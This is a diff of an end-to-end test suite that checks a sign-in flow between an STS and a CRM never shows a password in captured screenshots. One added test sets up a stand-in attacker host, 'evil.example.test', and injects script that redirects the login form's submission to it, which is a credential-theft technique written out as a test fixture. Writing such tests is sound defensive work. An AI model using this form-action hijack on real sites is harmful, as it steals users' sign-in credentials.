@@ -87,7 +87,7 @@ test.describe('the page that refuses the password shows it', () => {
       });
       expect(world.journey).toMatchObject({ signedIn: 'no', credentialSubmissions: 1 });
       expectNoDrawing(world, named);
-      expect(world.evidence.screenshots.at(-1)?.caption).toMatch(/Refused.*drawn from its text, as the password had been typed/);
+      expect(world.evidence.screenshots.at(-1)?.caption).toMatch(/Refused.*drawn from its text, as the password had been given/);
       expect(world.evidence.pages.at(-1)?.screenshot).toBe(world.evidence.screenshots.at(-1)?.file);
     });
 
@@ -205,6 +205,14 @@ test.describe('the STS hands the password over to the page of CRM, which draws i
       expect(world.journey.signedIn).toBe('yes');
       expectNoDrawing(world, named);
     });
+
+  test('by a site of its own that gets the token: not in the picture', async () => {
+    const world = await signInAbroad({
+      before: (hosts) => hosts.put('evil.example.test', () => html('Mine', `<h1 id="welcome">Welcome</h1><script>${drawing} document.body.append(c)</script>`)),
+      ...wished("document.forms[0].action = document.forms[0].action.replace('app.', 'evil.')", ''),
+    });
+    expectNoDrawing(world, 'by a site of its own');
+  });
 
   test('as a text that CRM repeats: not in the picture', async () => {
     const world = await signInAbroad({ rp: { home: () => home(`<p style="${big}">${[...goodPassword].join('\u200b').replace(/&/g, '&amp;')}</p>`) } });
